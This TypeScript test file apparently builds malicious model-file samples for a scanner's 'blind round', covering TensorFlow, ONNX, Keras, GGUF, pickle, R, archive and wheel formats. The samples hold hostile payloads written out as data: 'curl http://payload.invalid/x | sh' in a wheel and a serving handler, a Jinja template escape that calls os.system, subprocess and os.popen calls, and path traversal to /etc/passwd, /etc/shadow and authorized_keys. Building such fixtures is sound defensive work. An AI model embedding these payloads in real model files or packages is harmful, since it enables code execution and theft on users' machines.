/** A second blind round of graphs and binary formats. */
import { gzipSync, deflateSync } from 'node:zlib';
import { family, json, type Sample } from './sample.ts';
import * as tf from '../../../test/support/tensorflow-assembler.ts';
import * as ox from '../../../test/support/onnx-assembler.ts';
import * as p from '../../../test/support/protobuf-assembler.ts';
import * as core from '../../../test/support/coreml-assembler.ts';
import * as r from '../../../test/support/rdata-assembler.ts';
import * as xgb from '../../../test/support/xgboost-assembler.ts';
import * as k from '../../../test/support/keras-configs.ts';
import {
  attributesFile,
  externalDataset,
  groupMessages,
  hardLink,
  hdf5,
  objectHeader,
  ROOT,
} from '../../../test/support/hdf5-assembler.ts';
import { executorch } from '../../../test/support/executorch-assembler.ts';
import { exported, torchscript } from '../../../test/support/torchscript-archives.ts';
import { tflite } from '../../../test/support/tflite-assembler.ts';
import { tar } from '../../../test/support/tar-assembler.ts';
import { sevenZip } from '../../../test/support/seven-zip-assembler.ts';
import { zip, torchZip } from '../../../test/support/zip-assembler.ts';
import { safetensors, honestSafetensors } from '../../../test/support/safetensors-writer.ts';
import { GgufWriter, honestGguf } from '../../../test/support/gguf-writer.ts';
import { commandPickle } from '../../../test/support/pickle-assembler.ts';

const pickle = commandPickle(4);
const data = (text: string): Buffer => Buffer.from(text);
const elf = Buffer.concat([
  Buffer.from('7f454c460201010000000000000000000200 3e0001000000'.replace(' ', ''), 'hex'),
  Buffer.alloc(200),
]);
const { node, strings } = tf;
const attr = (name: string, value: string): Buffer => tf.attribute(name, p.text(2, value));
const lambda: k.Json = k.layer('Lambda', {
  name: 'l',
  function: { class_name: '__lambda__', config: { code: '4wAAAAAAAAAA', defaults: null, closure: null } },
});
const keras = (config: string, ...more: { name: string; data: Uint8Array }[]): Buffer =>
  zip([{ name: 'metadata.json', data: data(k.METADATA) }, { name: 'config.json', data: data(config) }, ...more]);
const w = new GgufWriter(false);

const graphs = family('second round of graph files: TensorFlow, TFLite, ONNX, TorchScript', {
  'second meta graph': {
    'saved_model.pb': p.message(
      p.int(1, 1),
      p.text(2, tf.metaGraph({ nodes: [tf.placeholder('x')] })),
      p.text(2, tf.metaGraph({ nodes: [strings('c', '/tmp/x'), node('w', 'WriteFile', ['c', 'c'])] })),
    ),
  },
  'path from a variable': {
    'saved_model.pb': tf.savedModel({
      nodes: [node('v', 'VarHandleOp'), node('r', 'ReadVariableOp', ['v']), node('f', 'ReadFile', ['r'])],
    }),
  },
  'path by string operators': {
    'saved_model.pb': tf.savedModel({
      nodes: [strings('a', 'x/etc/passwd'), node('s', 'Substr', ['a', 'i', 'n']), node('f', 'ReadFile', ['s'])],
    }),
  },
  'write behind a condition': {
    'saved_model.pb': tf.savedModel({
      nodes: [
        tf.placeholder('x'),
        node('i', 'StatelessIf', ['x'], [tf.attribute('then_branch', p.text(10, p.text(1, 'then')))]),
      ],
      functions: [
        tf.fn(
          'then',
          ['x'],
          [strings('c', '/root/.ssh/authorized_keys'), node('w', 'WriteFile', ['c:output:0', 'c:output:0'])],
        ),
      ],
    }),
  },
  'save to a constant path': {
    'saved_model.pb': tf.savedModel({
      nodes: [
        strings('p', '/root/.bashrc'),
        node('f', 'ShardedFilename', ['p', 's', 'n']),
        node('w', 'SaveV2', ['f', 'n', 's', 'd']),
      ],
    }),
  },
  'graph in a constant': {
    'frozen.pb': tf.graph([
      strings('g', tf.graph([strings('c', '/tmp/x'), node('r', 'ReadFile', ['c'])])),
      node('d', 'DatasetFromGraph', ['g']),
    ]),
  },
  'generator of a data set': {
    'saved_model.pb': tf.savedModel({
      nodes: [node('g', 'GeneratorDataset', [], [tf.attribute('next_func', p.text(10, p.text(1, 'next')))])],
      functions: [tf.fn('next', [], [node('e', 'EagerPyFunc', [], [attr('token', 'pyfunc_1')])])],
    }),
  },
  'text of a saved model': {
    'saved_model.pbtxt':
      'meta_graphs { graph_def { node { name: "a" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/etc/passwd" } } } } node { name: "r" op: "ReadFile" input: "a" } } }\n',
  },
  'text with an unknown operator': {
    'graph.pbtxt': 'node { name: "a" op: "Placeholder" }\nnode { name: "r" op: "SpawnProcess" input: "a" }\n',
  },
  'meta file of a checkpoint': {
    'model.ckpt.meta': tf.metaGraph({ nodes: [strings('c', '/tmp/x'), node('w', 'WriteFile', ['c', 'c'])] }),
  },
  'library beside a graph': {
    'saved_model.pb': tf.savedModel({ nodes: [tf.placeholder('x')] }),
    'assets/_custom_ops.so': elf,
  },
  'TFLite with a pickle in its metadata archive': {
    'm.tflite': Buffer.concat([tflite([{ builtin: 0 }]), zip([{ name: 'labels.pkl', data: pickle }])]),
  },
  'TFLite with a script behind': {
    'm.tflite': Buffer.concat([tflite([{ builtin: 0 }]), Buffer.alloc(64), elf, data('tail')]),
  },
  'TFLite in a zip': { 'm.zip': zip([{ name: 'm.tflite', data: tflite([{ custom: 'Spawn' }]), method: 8 }]) },
  'TFLite under another name': { 'weights.bin': tflite([{ custom: 'Spawn' }]) },
  'ONNX in a zip with data elsewhere': {
    'm.zip': zip([
      { name: 'm.onnx', data: ox.onnx({ tensors: [ox.externalTensor('w', 4, { location: '../../etc/passwd' })] }) },
    ]),
  },
  'ONNX under another name': {
    'weights.pb': ox.onnx({ tensors: [ox.externalTensor('w', 4, { location: '/etc/passwd' })] }),
  },
  'ONNX with a thousand levels': {
    'm.onnx': ox.onnx({
      nodes: [
        Array.from({ length: 300 }).reduce<Buffer>((inner) => ox.branch(ox.graph({ nodes: [inner] })), ox.node('Relu')),
      ],
    }),
  },
  'ONNX in an attribute of a function': {
    'm.onnx': ox.onnx({
      functions: [
        p.message(
          p.text(1, 'F'),
          p.text(10, 'l'),
          p.text(7, ox.branch(ox.graph({ tensors: [ox.externalTensor('w', 1, { location: '~/x' })] }))),
        ),
      ],
      nodes: [ox.node('F', { domain: 'l' })],
      domains: ['l'],
    }),
  },
  'ONNX sequence of foreign operators': {
    'm.onnx': ox.onnx({
      nodes: [ox.node('Relu'), ox.node('Exec', { domain: 'ai.onnx.evil' })],
      domains: ['ai.onnx.evil'],
    }),
  },
  'TorchScript that saves on loading': {
    'm.pt': torchscript(
      'pass\n  def __setstate__(self, state: Tensor) -> None:\n    torch.save(state, "/tmp/modelgate-marker")',
    ),
  },
  'TorchScript of a library': { 'm.pt': torchscript('_0 = ops.my_backdoor.trigger(x)') },
  'TorchScript with a native library': {
    'm.pt': zip([
      { name: 'm/data.pkl', data: data('\x80\x02).') },
      { name: 'm/code/__torch__.py', data: data('') },
      { name: 'm/extra/libop.so', data: elf },
      { name: 'm/version', data: data('3\n') },
    ]),
  },
  'torch.export with attributes': { 'm.pt2': exported({ target: '_operator.methodcaller' }) },
  'torch.export that loads': { 'm.pt2': exported({ target: 'torch.serialization.load' }) },
  'ExecuTorch with a program behind': { 'm.pte': Buffer.concat([executorch(), Buffer.alloc(100), elf]) },
});

const configured = family('second round of graph files: Keras, HDF5, Core ML', {
  'Lambda in compile_config': {
    'm.keras': keras(
      JSON.stringify({
        module: 'keras',
        class_name: 'Sequential',
        config: { name: 's', layers: [] },
        registered_name: null,
        compile_config: { loss: lambda },
      }),
    ),
  },
  'Lambda in a quantisation': {
    'm.keras': keras(k.sequential(k.layer('Dense', { name: 'd', units: 1, quantization_config: lambda }))),
  },
  'Lambda in an inbound node': {
    'm.keras': keras(
      JSON.stringify({
        module: 'keras',
        class_name: 'Functional',
        config: {
          name: 'f',
          layers: [
            {
              module: 'keras.layers',
              class_name: 'Dense',
              config: { units: 1 },
              inbound_nodes: [{ args: [lambda], kwargs: {} }],
            },
          ],
        },
        registered_name: null,
      }),
    ),
  },
  'Lambda by another module': {
    'm.keras': keras(
      k.sequential({
        module: 'keras.src.layers.core.lambda_layer',
        class_name: 'Lambda',
        config: { name: 'l', function: { class_name: '__lambda__', config: { code: '4wAAAAAA' } } },
        registered_name: 'Lambda',
      }),
    ),
  },
  'class by its registered name': {
    'm.keras': keras(
      k.sequential({
        module: 'subprocess',
        class_name: 'Popen',
        config: { args: 'id' },
        registered_name: 'Custom>Dense',
      }),
    ),
  },
  'function of numpy': {
    'm.keras': keras(
      k.sequential(
        k.layer('Lambda', {
          name: 'l',
          function: { module: 'numpy', class_name: 'function', config: 'loadtxt', registered_name: 'function' },
        }),
      ),
    ),
  },
  'download by a data set': {
    'm.keras': keras(
      k.sequential(
        k.layer('Lambda', {
          name: 'l',
          function: {
            module: 'keras.datasets.imdb',
            class_name: 'function',
            config: 'load_data',
            registered_name: 'load_data',
          },
        }),
      ),
    ),
  },
  'pickle among the assets': {
    'm.keras': keras(k.sequential(), { name: 'assets/layers/lookup/vocab.npy', data: pickle }),
  },
  'weights that are a pickle': { 'm.keras': keras(k.sequential(), { name: 'model.weights.h5', data: pickle }) },
  'weights that are npz of objects': {
    'm.keras': keras(k.sequential(), {
      name: 'model.weights.npz',
      data: zip([
        {
          name: 'a.npy',
          data: Buffer.concat([
            Buffer.from('934e554d5059010046 00'.replace(' ', ''), 'hex'),
            data("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".padEnd(69) + '\n'),
            pickle,
          ]),
        },
      ]),
    }),
  },
  'Keras 2 Lambda with defaults': {
    'm.h5': attributesFile({
      model_config: k.legacy({
        class_name: 'Lambda',
        config: { function: ['4wEAAAAAAAAAAAAAAAEAAAAC\n', [1], null], function_type: 'lambda', module: '__main__' },
      }),
    }),
  },
  'Keras 2 function of os': {
    'm.h5': attributesFile({
      model_config: k.legacy({
        class_name: 'Lambda',
        config: { function: 'popen', function_type: 'function', module: 'os' },
      }),
    }),
  },
  'Keras 2 in a nested model': {
    'm.h5': attributesFile({
      model_config: k.legacy({
        class_name: 'Functional',
        config: {
          layers: [{ class_name: 'Lambda', config: { function: ['4wE', null, null], function_type: 'lambda' } }],
        },
      }),
    }),
  },
  'HDF5 storage elsewhere': (() => {
    const at = ROOT + objectHeader(...groupMessages, hardLink('w', 0)).length;
    const { header, heap } = externalDataset(16, '/etc/shadow', at + 400);
    const root = objectHeader(...groupMessages, hardLink('w', at));
    return { 'm.h5': hdf5(root, header, Buffer.alloc(400 - header.length), heap) };
  })(),
  'HDF5 with a program behind': { 'm.h5': Buffer.concat([attributesFile({ model_config: k.legacy() }), elf]) },
  'HDF5 with a pickle behind': { 'm.h5': Buffer.concat([attributesFile({ model_config: k.legacy() }), pickle]) },
  'Core ML package outside': {
    'm.mlpackage/Manifest.json': json({
      fileFormatVersion: '1.0.0',
      itemInfoEntries: { a: { author: 'com.apple.CoreML', name: 'weights', path: '../../../etc/passwd' } },
      rootModelIdentifier: 'a',
    }),
  },
  'Core ML pipeline of custom models': {
    'm.mlmodel': core.coreml(p.text(202, p.text(1, core.coreml(p.text(555, p.text(10, 'Evil')))))),
  },
});

const st = (header: object, length = 0): Buffer => safetensors(header, Buffer.alloc(length));
const binary = family('second round of graph files: weights, trees, archives, programs', {
  'index that leads out': {
    'model.safetensors.index.json': json({ metadata: {}, weight_map: { a: '../../../etc/passwd' } }),
  },
  'index to a pickle': { 'pytorch_model.bin.index.json': json({ metadata: {}, weight_map: { a: '/tmp/evil.bin' } }) },
  'safetensors of floats in shapes': {
    'm.safetensors': st({ a: { dtype: 'F32', shape: [1.5], data_offsets: [0, 4] } }, 4),
  },
  'safetensors without a tensor and with data': { 'm.safetensors': st({ __metadata__: { a: 'b' } }, 64) },
  'safetensors with metadata of objects': {
    'm.safetensors': st({ __metadata__: { a: { b: 'c' } }, a: { dtype: 'F32', shape: [1], data_offsets: [0, 4] } }, 4),
  },
  'safetensors behind a mark': { 'm.safetensors': Buffer.concat([Buffer.from('efbbbf', 'hex'), honestSafetensors()]) },
  'GGUF with a named template': {
    'm.gguf': w.file({
      metadata: [
        ['general.architecture', w.string('llama')],
        ['tokenizer.chat_template.rag', w.string("{{ cycler.__init__.__globals__.os.system('id') }}")],
      ],
      tensors: [],
      data: Buffer.alloc(0),
    }),
  },
  'GGUF tensors that overlap': {
    'm.gguf': w.file({
      metadata: [['general.architecture', w.string('llama')]],
      tensors: [
        { name: 'a', shape: [64n], type: 0, offset: 0n },
        { name: 'b', shape: [64n], type: 0, offset: 32n },
      ],
      data: Buffer.alloc(512),
    }),
  },
  'GGUF that wraps around': {
    'm.gguf': w.file({
      metadata: [['general.architecture', w.string('llama')]],
      tensors: [{ name: 'a', shape: [4n], type: 0, offset: 0xffff_ffff_ffff_ffe0n }],
      data: Buffer.alloc(64),
    }),
  },
  'GGUF in a zip with a program': {
    'm.zip': zip([
      { name: 'm.gguf', data: honestGguf() },
      { name: 'run', data: elf },
    ]),
  },
  'R promise in version 2, compressed': {
    'm.rds': gzipSync(r.rds(r.list(r.promise(r.call('system', r.text('id')))), 2)),
  },
  'R promise in an object of a model': {
    'm.RData': gzipSync(r.rdata('model', r.environment('predict', r.promise(r.call('shell', r.text('id')))))),
  },
  'XGBoost parent loop': { 'm.json': json(xgb.document({ left: [1, 0, -1], right: [2, 2, -1], features: [0, 0, 0] })) },
  'XGBoost negative feature': {
    'm.ubj': xgb.ubjson(xgb.document({ left: [1, -1, -1], right: [2, -1, -1], features: [-7, 0, 0] })),
  },
  'pickle in a zlib stream': { 'm.bin': deflateSync(pickle) },
  'pickle in a 7z in a tar': { 'm.tar': tar([{ name: 'a.7z', data: sevenZip([{ name: 'x', data: pickle }]) }]) },
  'torch archive in a 7z': { 'pytorch_model.bin': sevenZip([{ name: 'pytorch_model.bin', data: torchZip(pickle) }]) },
  'tar with a device': { 'm.tar': tar([{ name: 'w', data: Buffer.alloc(0), type: '3' }]) },
  'tar with a hard link outside': {
    'm.tar': tar([{ name: 'w', data: Buffer.alloc(0), type: '1', target: '../../etc/passwd' }]),
  },
  'zip with a link outside': { 'm.zip': zip([{ name: 'w', data: data('/etc/passwd'), central: { mode: 0o120_777 } }]) },
  'zip in which names end in dots': {
    'm.zip': zip([
      { name: 'archive/data.pkl', data: pickle },
      { name: 'archive/data.pkl.', data: data('x') },
    ]),
  },
  'wheel with a payload': {
    'x-1-py3-none-any.whl': zip([
      { name: 'x/__init__.py', data: data('import os\nos.system("curl http://payload.invalid/x | sh")\n') },
      { name: 'x-1.dist-info/METADATA', data: data('Name: x\n') },
    ]),
  },
  'jar of a class': {
    'm.jar': zip([
      { name: 'A.class', data: Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(40)]) },
    ]),
  },
  'bytecode named weights': {
    'weights.bin': Buffer.concat([
      Buffer.from('a70d0d0a', 'hex'),
      Buffer.alloc(12),
      Buffer.from('e3', 'hex'),
      Buffer.alloc(100),
    ]),
  },
  'WebAssembly beside': { 'ops.wasm': Buffer.from('0061736d01000000', 'hex') },
  'script named model': { model: '#!/usr/bin/env python3\nimport os\nos.system("id")\n' },
  'skops of a method': {
    'm.skops': zip([
      {
        name: 'schema.json',
        data: data(
          json({
            __class__: 'getattr',
            __module__: 'builtins',
            __loader__: 'FunctionNode',
            content: { module_path: 'builtins', function: 'getattr' },
          }),
        ),
      },
    ]),
  },
  'NeMo with a script': {
    'm.nemo': gzipSync(
      tar([
        { name: 'model_config.yaml', data: data('target: evil.pkg.Model\nx:\n  _target_: builtins.eval\n') },
        { name: 'run.sh', data: data('#!/bin/sh\nid\n') },
      ]),
    ),
  },
  'handler of an archive': {
    'm.mar': zip([
      {
        name: 'MAR-INF/MANIFEST.json',
        data: data(json({ model: { handler: 'handler.py', requirementsFile: 'requirements.txt' } })),
      },
      {
        name: 'handler.py',
        data: data('import subprocess\nsubprocess.run("curl http://payload.invalid/x | sh", shell=True)\n'),
      },
      { name: 'requirements.txt', data: data('evil @ http://payload.invalid/evil.tar.gz\n') },
    ]),
  },
});

export const graphFilesSecond: readonly Sample[] = [...graphs, ...configured, ...binary];
